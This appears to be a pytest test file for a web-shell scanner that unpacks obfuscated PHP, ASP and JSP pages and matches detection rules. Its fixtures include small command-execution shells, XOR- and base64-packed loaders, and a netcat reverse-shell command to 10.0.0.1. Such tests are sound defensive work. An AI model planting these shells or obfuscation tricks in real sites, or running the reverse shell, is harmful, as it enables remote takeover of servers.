        b"system(\n    /**_**/ $_REQUEST['c'])",
    ],
    ids=["global-name", "comment", "both", "layout"],
)
def test_a_call_in_another_spelling_is_read_as_php_runs_it(
    exec_rules: RuleSet, tmp_path: Path, call: bytes
) -> None:
    page = b"<?php if (isset($_REQUEST['c'])) { " + call + b"; }"
    assert scan(exec_rules, tmp_path, "g.php", page) == {"T_Php_Exec": "php-spelling"}


def test_a_namespaced_call_keeps_its_name() -> None:
    page = b"<?php \\Vendor\\Lib\\system($x); \\strlen($y); f($a, /* why */ $b);"
    assert phpspelling.normalise(page, 1 << 20) == (
        b"<?php \\Vendor\\Lib\\system($x); strlen($y); f($a,$b);"
    )


def test_plain_vbscript_gets_no_vbscript_layer() -> None:
    assert vbscript.normalise(b'<% x = Request("a") & my_var %>', 1 << 20) is None


def test_a_progid_split_in_two_is_telling(exec_rules: RuleSet, tmp_path: Path) -> None:
    page = b'<% Set o = Server.CreateObject("Scrip" & "tControl")\r\no.addcode(Request("c")) %>'
    assert scan(exec_rules, tmp_path, "s.asp", page) == {"T_ScriptControl": "fold"}
    # an ordinary pair of pieces is not
    assert fold(b'<% x = "Hello " & "world" %>').telling == 0


def test_a_literal_spelt_in_char_codes_inside_parentheses_is_unwrapped(
    exec_rules: RuleSet, tmp_path: Path
) -> None:
    codes = b"&".join(b"Chr(%d)" % c for c in b"eval%20request%28%22a%22%29")
    page = b"<%execute(unescape((" + codes + b")))%>"
    assert scan(exec_rules, tmp_path, "c.asp", page) == {"T_Unescape": "fold"}


@pytest.mark.parametrize(
    ("page", "at"),
    [
        (b"<% Runtime. /* x */ getRuntime() %>", 12),
        (b"<% exec /**/ (c) %>", 8),
        (b"<% Runtime\n   .getRuntime() %>", 10),
        (b"<% \\u0052untime %>", 3),
        (b"<% out.println(1); /* note */ x = 2; %>", None),  # a comment before a statement
        (b"<?php /* a */ .x \\u0041", None),  # no server tags of Java or C#
    ],
)
def test_cstyle_cues(page: bytes, at: int | None) -> None:
    assert cstyle.cues_at(page) == ([] if at is None else [at])


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([b"<%", b"/*", b"*/", b".", b" ", b"\n", b"(", b"\\u0041", b"x"]),
                max_size=80).map(b"".join))  # fmt: skip
def test_cstyle_cues_are_cues_of_the_page(page: bytes) -> None:
    found = cstyle.cues_at(page, 4)
    assert len(found) <= 4 and found == sorted(set(found))
    assert all(0 <= at < len(page) and page[at : at + 1] in (b"\n", b"\\", b"/") for at in found)


def test_a_payload_whose_code_carries_raw_bytes_is_scanned(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # A packer's inner layer: a few statements of text, then a literal of raw (gzip) bytes that
    # make up most of it; its decoding call is spelt at run time, so only the loose literal is
    # there to decode.
    raw = zlib.compress(os.urandom(6000))
    code = b"error_reporting(0);define('\x93', '\x80\xf2');system($_GET['c']);$z = '" + raw + b"';"
    literal = base64.b64encode(zlib.compress(code)).replace(b"=", b"")
    page = b"<?php $f = pick(); eval($f() . '" + literal + b"');"
    assert scan(ruleset, tmp_path, "p.php", page) == {"T_System_Get": "base64 > inflate"}
    assert not payload.texty(raw) and not payload.texty(os.urandom(4096))


@given(st.binary(max_size=600), st.integers(0, 700))
def test_a_decoded_payload_is_kept_as_text_as_program_headers_or_not_at_all(
    tail: bytes, e_lfanew: int
) -> None:
    # any bytes, and bytes shaped like a PE whose header offset points anywhere
    pe = b"MZ" + bytes(0x3A) + e_lfanew.to_bytes(4, "little") + tail
    for data in (tail, pe, b"\x7fELF" + tail):
        layer = payload.kept(data)
        if layer is not None:
            assert layer == data if payload.texty(data) else layer == data[: payload.EXE_HEAD]
    real = b"MZ" + bytes(0x3A) + (0x40).to_bytes(4, "little") + b"PE\0\0" + os.urandom(8000)
    assert payload.executable(real) and payload.kept(real) == real[: payload.EXE_HEAD]
    assert payload.kept(b"\x89PNG\r\n\x1a\n" + os.urandom(4000)) is None


@pytest.mark.parametrize(
    ("page", "inlined"),
    [
        (b"<? echo exec(str_rot13('ap -ai 10.0.0.1 1234 -r /ova/onfu')); ?>",
         b"<? echo exec('nc -nv 10.0.0.1 1234 -e /bin/bash'); ?>"),
        (b"<?php $f = base64_decode('c3lzdGVt', true); $f($_GET['c']);",
         b"<?php $f = 'system'; $f($_GET['c']);"),
        (b'<% Class c = Class.forName(new String(Base64.getDecoder().decode("amF2YS5sYW5nLlJ1bnRpbWU="))); %>',
         b'<% Class c = Class.forName("java.lang.Runtime"); %>'),
        (b'<% var p = Encoding.UTF8.GetString(Convert.FromBase64String("Y21kLmV4ZQ==")); %>',
         b'<% var p = "cmd.exe"; %>'),
        # a quote in what is decoded is escaped for the literal it goes back into
        (b"<?php $q = base64_decode('aXQncw==');", b"<?php $q = 'it\\'s';"),
    ],
    ids=["rot13-command", "php-name", "java-class", "csharp-program", "quote"],
)  # fmt: skip
def test_a_short_decoded_literal_is_put_back_where_it_stood(page: bytes, inlined: bytes) -> None:
    offsets = [
        m.start() for m in re.finditer(rb"str_rot13|base64_decode|decode\(|FromBase64", page)
    ]
    assert payload.inlined(page, offsets) == inlined


def test_what_is_not_a_short_line_of_text_stays_encoded() -> None:
    long = base64.b64encode(b"x" * (payload.INLINE_MAX + 1))
    binary = base64.b64encode(bytes(range(256)))
    code = base64.b64encode(b"eval($_POST[1]);")  # code: the chain's layer, not inlined
    for lit in (long, binary, base64.b64encode(b"a\nb"), code):
        page = b"<?php $a = base64_decode('" + lit + b"');"
        assert payload.inlined(page, [page.find(b"base64")]) is None


def test_a_command_decoded_in_place_meets_the_rule_for_its_call(
    tmp_path: Path,
) -> None:
    rs = rules_of(tmp_path, 'rule T_Rev { strings: $a = "exec(\'nc -nv" condition: $a }')
    page = b"<? echo exec(str_rot13('ap -ai 10.0.0.1 1234 -r /ova/onfu')); ?>"
    assert scan(rs, tmp_path, "q.php", page) == {"T_Rev": "inline"}


@settings(max_examples=300, deadline=None)
@given(
    st.binary(max_size=400),
    st.sampled_from([b"base64_decode('", b'str_rot13("', b"strrev(hex2bin('"]),
)
def test_inlining_never_raises_and_stays_bounded(data: bytes, call: bytes) -> None:
    page = b"<?php $a = " + call + data
    out = payload.inlined(page, [page.find(call)])
    assert out is None or len(out) <= len(page) + payload.INLINE_COUNT * (
        2 * payload.INLINE_MAX + 2
    )


def test_variables_named_through_a_table_are_written_back() -> None:
    page = (
        b'<?php ${"GLOBALS"}["kq"] = "cmd";\n$GLOBALS[\'zz\'] = "out";\n'
        b'function f() { $v = "res"; ${$v} = system(${${"GLOBALS"}["kq"]}); return $$v; }\n'
        b"${\n  ${\n    \"GLOBALS\"\n  }\n  [\"kq\"]\n} = $_REQUEST['c']; echo ${$GLOBALS['zz']};"
    )
    out = varnames.resolve(page, 1 << 20)
    assert out is not None
    assert (
        b"$res = system($cmd); return $res;" in out and b"$cmd = $_REQUEST['c']; echo $out;" in out
    )


def test_a_name_looked_up_two_ways_is_left_alone() -> None:
    # a key given two names, a local assigned a name and something else: no guess
    page = b'<?php $GLOBALS["k"] = "a"; $GLOBALS["k"] = "b"; $v = "c"; $v = f(); ${$v} = ${$GLOBALS["k"]};'
    assert varnames.resolve(page, 1 << 20) is None


@settings(max_examples=400, deadline=None)
@given(
    st.binary(max_size=400)
    | st.text(alphabet="<?php=%@ ;{}()'\"\\\n>-$xa", max_size=300).map(str.encode)
)
def test_a_layers_head_is_the_pages_start_with_the_calls_it_left_open_closed(page: bytes) -> None:
    # whatever the page, the head kept in front of a decoded layer is the page's start (a
    # literal it leaves open emptied), then only what closes the calls it left open
    head = stage.context_of(page)
    assert page.startswith(head.rstrip(b");")[:-1]) or page.startswith(head.rstrip(b");"))
    assert len(head) <= 2 * stage.CONTEXT + 1
    quote, depth, escaped = 0, 0, False
    for c in head:
        if quote:
            escaped, quote = (False, quote) if escaped else (c == 0x5C, 0 if c == quote else quote)
        elif c in b"\"'":
            quote = c
        elif c in b"()":
            depth = max(0, depth + (1 if c == 0x28 else -1))
    assert quote == 0 and depth == 0


def test_a_page_decoded_inside_its_own_eval_call_is_read_statement_by_statement(
    tmp_path: Path,
) -> None:
    # `eval('?>'.base64_decode('..'))`: the head kept in front of the decoded page has its
    # literal and calls closed, so the flow pass reads the page's statements, not one argument
    code = b"<?php\n$n = $_POST['n'];\n$d = $_POST['d'];\nfile_put_contents($n, $d);\n"
    code += b"?>\n<p>" + b"notes " * 60 + b"</p>\n"  # the literal runs past the head's length
    page = b"<?php eval('?>'.base64_decode('" + base64.b64encode(code) + b"'));"
    rules = rules_of(
        tmp_path, 'rule T_Put { strings: $a = "file_put_contents($_POST" condition: $a }'
    )
    assert scan(rules, tmp_path, "w.php", page) == {"T_Put": "base64 > flow"}


def test_a_literal_longer_than_the_loose_window_is_decoded_as_far_as_it_arrived(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # a packed page of 1.5 MB in one literal, handed to the page's own decoder: the loose pass
    # reads a window of at most LOOSE_END after the literal's start, and decodes what came
    code = b"<?php system($_GET['c']); ?>\n" + b"<p>" + b"filler text " * 120_000 + b"</p>"
    packed = base64.b64encode(code)
    assert len(packed) > stage.LOOSE_END
    page = b'<?php $x = "' + packed + b'"; eval(own($x));'
    assert scan(ruleset, tmp_path, "big.php", page) == {"T_System_Get": "base64"}


def _xored(code: bytes, key: bytes) -> bytes:
    return bytes(a ^ b for a, b in zip(code, (key * len(code))[: len(code)], strict=True))


def _own_cipher_page(code: bytes, key: bytes) -> bytes:
    """`code` XORed with `key`, hex-encoded and turned, run through the page's own decoder
    with the key in a literal: `eval('?>' . dx($p, $k))` (the php-xor mutation's shape)."""
    hexed = _xored(code, key).hex().encode()[::-1]
    return (
        b"<?php function dx($h, $k) { $d = hex2bin(strrev($h)); $o = ''; $n = strlen($k);"
        b" for ($i = 0; $i < strlen($d); $i++) { $o .= $d[$i] ^ $k[$i % $n]; } return $o; }\n"
        b'$p = "' + hexed + b'";\n$k = "' + key + b"\";\neval('?>' . dx($p, $k)); ?>"
    )


def test_a_payload_under_the_pages_own_xor_cipher_is_decoded(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # the key sits in a literal of the page; the cipher is the page's own function
    key = b"k3yZ"
    code = b"<?php system($_GET['c']); ?>" + b"<p>padding</p>" * 8
    page = _own_cipher_page(code, key)
    assert scan(ruleset, tmp_path, "x.php", page) == {"T_System_Get": "strrev > hex2bin > xor"}
    # without the key in the page, nothing decodes to code
    assert payload.unxor(_xored(code, key), [b"nope"]) is None


def test_a_payload_with_gbk_comments_is_decoded_as_text(ruleset: RuleSet, tmp_path: Path) -> None:
    # a Chinese shell's comments in GBK: a third of its bytes above ASCII and no UTF-8
    remark = "// 调用函数 call it\n".encode("gbk")
    code = b"<?php\n" + remark * 3 + b"system($_GET['c']);\n" + remark * 3 + b"?>"
    assert payload.texty(code) and not payload.texty(os.urandom(4096))
    page = _own_cipher_page(code, b"q7wE")
    assert scan(ruleset, tmp_path, "x.php", page) == {"T_System_Get": "strrev > hex2bin > xor"}


def test_an_xor_packed_page_that_opens_with_chinese_comments_is_decoded(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # its first KB is less than half ASCII; it is UTF-8, which a wrong key's bytes are not
    remark = "// 这个后门 array 调用\n".encode()
    code = b"<?php\n" + remark * 12 + b"system($_GET['c']);\n?>"
    assert payload.unxor(_xored(code, b"Zq8w"), [b"nope", b"Zq8w"]) == code
    assert payload.unxor(_xored(code, b"Zq8w"), [b"nope"]) is None
    page = _own_cipher_page(code, b"Zq8w")
    assert scan(ruleset, tmp_path, "x.php", page) == {"T_System_Get": "strrev > hex2bin > xor"}


def test_an_xor_packed_page_that_carries_raw_bytes_is_decoded(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # the deciphered page opens as code but is mostly its compressed literal: no key makes it
    # text, one makes it open with a tag and a call
    packed = zlib.compress(b"system($_GET['c']);" + os.urandom(400))
    code = (
        b"<?php eval(gzuncompress('"
        + packed.replace(b"\\", b"\\\\").replace(b"'", b"\\'")
        + b"')); ?>"
    )
    assert payload.unxor(_xored(code, b"Kx9q"), [b"nope", b"Kx9q"]) == code
    page = _own_cipher_page(code, b"Kx9q")
    assert scan(ruleset, tmp_path, "x.php", page) == {"T_System_Get": "strrev > hex2bin > xor"}


def test_the_key_after_the_payload_is_tried_before_a_login_pages_literals(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # a login page above the payload spends the page's first short literals (more than the
    # keys tried); the key stands after the payload, at the bottom
    key = b"NiGhT7"
    code = b"<?php system($_GET['c']); ?>" + b"<p>padding</p>" * 8
    login = b"".join(b'<?php $f%d = "field-%d"; ?>\n' % (i, i) for i in range(40))
    page = login + _own_cipher_page(code, key)
    assert scan(ruleset, tmp_path, "x.php", page) == {"T_System_Get": "strrev > hex2bin > xor"}


def test_a_decoder_named_in_a_property_and_copied_to_a_variable_is_followed(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # the decoder's name is a class property, spelt in escapes; a method copies it into a
    # local and calls that on the literal: no decoder's name stands before the literal
    payload_b64 = base64.b64encode(b"system($_GET['c']);")
    page = (
        b'<?php class K { private $d = "\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65";'
        b' function run() { $f = $this->d; return $f("' + payload_b64 + b'"); } }'
        b" eval((new K)->run());"
    )
    assert scan(ruleset, tmp_path, "k.php", page) == {"T_System_Get": "base64"}


def test_a_wrong_key_that_leaves_high_bytes_and_a_chance_call_deciphers_nothing() -> None:
    # a wrong guess over a ciphertext: bytes above 127 (text to a multibyte charset), and `$a(`
    # somewhere in its KB by chance; code is mostly ASCII, so this is no plaintext
    key = b"k3yZ"
    garbage = (bytes(range(0xA0, 0xFF)) * 20)[:1000] + b"$a(1);"
    assert payload.unxor(_xored(garbage, key), [key]) is None


@pytest.mark.parametrize(
    "code",
    [b"/*" + b"~" * 70 + b"\n * a tool, its author, its version\n" * 40 + b"*/",
     b"<?php\n" + b"$d = getcwd(); // \xc4\xe3\xba\xc3\xca\xc0\xbd\xe7 \xb2\xe2\xca\xd4\n" * 40],
    ids=["comment-banner", "gbk-comments"],
)  # fmt: skip
def test_a_deciphered_page_may_open_with_a_banner_or_carry_gbk_comments(code: bytes) -> None:
    assert payload.unxor(_xored(code, b"q7w8e9r0"), [b"q7w8e9r0"]) == code


@pytest.mark.parametrize("seed", range(24))
def test_a_page_under_its_own_cipher_is_deciphered_whatever_the_key(
    tmp_path: Path, seed: int
) -> None:
    # The page's own cipher over a turned hex literal, with a key of its own: read forwards,
    # the literal is noise that may look like text, or like a raw deflate stream; turned and
    # deciphered, it is a page whose command goes through a variable (the flow pass restates
    # it), behind a head cut inside the literal.
    rng = random.Random(seed)
    key = "".join(rng.choice("abcdefghijkmnpqrstuvwxyz23456789") for _ in range(8)).encode()
    code = b"<?php\n# tools\n$c = $_GET['c'];\nsystem($c);\n?>\n" + b"<p>notes</p>\n" * 200
    page = _own_cipher_page(code, key)
    rules = rules_of(tmp_path, 'rule T_System_Post { strings: $a = "system($_POST" condition: $a }')
    found = scan(rules, tmp_path, "x.php", page)
    assert found == {"T_System_Post": "strrev > hex2bin > xor > flow"}


@pytest.mark.parametrize("turned", [False, True], ids=["forwards", "strrev"])
def test_a_key_spelt_in_hex_is_a_key(ruleset: RuleSet, tmp_path: Path, turned: bool) -> None:
    # the page spells its key in hex, decodes it in a loop (and may turn it with strrev)
    key = b"Zq9!kL2#pW"
    code = b"<?php system($_GET['c']); ?>" + b"<p>padding</p>" * 8
    stream = (key * len(code))[: len(code)]
    hexed = bytes(a ^ b for a, b in zip(code, stream, strict=True)).hex().encode()
    spelt = (key[::-1] if turned else key).hex().encode()
    page = (
        b'<?php $s = "' + spelt + b"\"; $k = '';"
        b" for ($i = 0; $i < strlen($s); $i += 2) { $k .= chr(hexdec($s[$i] . $s[$i + 1])); }"
        + (b" $k = strrev($k);" if turned else b"")
        + b' function dx($h, $k) { $d = hex2bin($h); $o = "";'
        b" for ($i = 0; $i < strlen($d); $i++) { $o .= $d[$i] ^ $k[$i % strlen($k)]; }"
        b' return $o; }\n$p = "' + hexed + b"\";\neval('?>' . dx($p, $k));"
    )
    assert scan(ruleset, tmp_path, "x.php", page) == {"T_System_Get": "hex2bin > xor"}
    assert key in payload.xor_keys(page)


@pytest.mark.parametrize(
    "read",
    [b'request.getParameterValues("c")[0]', b'request.getParameterMap().get("c")[0]',
     b'request.getParameterValues ("c") [ 0 ]'],
    ids=["values", "map", "spaced"],
)  # fmt: skip
def test_a_parameter_read_through_its_values_is_a_parameter_read(
    tmp_path: Path, tmp_path_factory: pytest.TempPathFactory, read: bytes
) -> None:
    d = tmp_path_factory.mktemp("rules")
    (d / "t.yar").write_text(
        'rule T_Jsp_Param { strings: $a = "exec(request.getParameter(\\"c\\"))" condition: $a }'
    )
    rules = load_rules((d, TRIGGERS), default_rules=False)
    page = b"<% Runtime.getRuntime().exec(" + read + b"); %>"
    assert scan(rules, tmp_path, "p.jsp", page) == {"T_Jsp_Param": "cstyle"}
    # a form's checkboxes read as values, nothing run: no layer worth a rule
    assert (
        scan(rules, tmp_path, "q.jsp", b'<% String[] v = request.getParameterValues("c"); %>') == {}
    )


def test_one_split_that_cuts_a_shells_name_folds_a_page(
    tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    # `"cmd." + "exe /c "`: the seam sits inside a telling name, not between words of text
    d = tmp_path_factory.mktemp("rules")
    (d / "t.yar").write_text(
        'rule T_Cmd { strings: $a = "exec(\\"cmd.exe /c \\" +" condition: $a }'
    )
    rules = load_rules((d, TRIGGERS), default_rules=False)
    page = b'<% Runtime.getRuntime().exec("cmd." + "exe /c " + request.getParameter("c")); %>'
    pad = b"\n<p>static text</p>" * 300  # past the small-page cues: the trigger's own split
    assert scan(rules, tmp_path, "c.jsp", page + pad) == {"T_Cmd": "fold"}
    text = b'<% out.print("Total: " + "items " + n); %>'
    assert scan(rules, tmp_path, "t.jsp", text + pad) == {}


def test_a_quote_made_by_chr_is_glued_into_the_text_it_spells() -> None:
    # `Chr(34)` is a quote: glued to its neighbours it is part of the code that is run, once
    # escaped in the literal and not at all in the value (twice escaped, it ended the literal)
    page = b'<%\nk = "request(" & Chr(34) & "z" & Chr(34) & ")"\nExecute(Eval(k))\n%>'
    folded = fold(page)
    assert b'request("z")' in folded.values
    assert b'k = "request(\\"z\\")"' in folded.data


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet="abcxyz ()\"'", min_size=1, max_size=5), min_size=2, max_size=6))
def test_glued_literals_hold_exactly_the_text_they_spell(pieces: list[str]) -> None:
    written = [
        b'"' + p.encode().replace(b'"', b'\\"') + b'"' if i % 2 else
        b"'" + p.encode().replace(b"'", b"\\'") + b"'"
        for i, p in enumerate(pieces)
    ]  # fmt: skip
    folded = fold(b"<?php\n$x = " + b" . ".join(written) + b";\n")
    text = "".join(pieces).encode()
    assert text in folded.values
    m = re.search(rb"\$x = '((?:[^'\\]|\\.)*)';", folded.data)
    assert m is not None and re.sub(rb"\\([\"'\\])", rb"\1", m.group(1)) == text
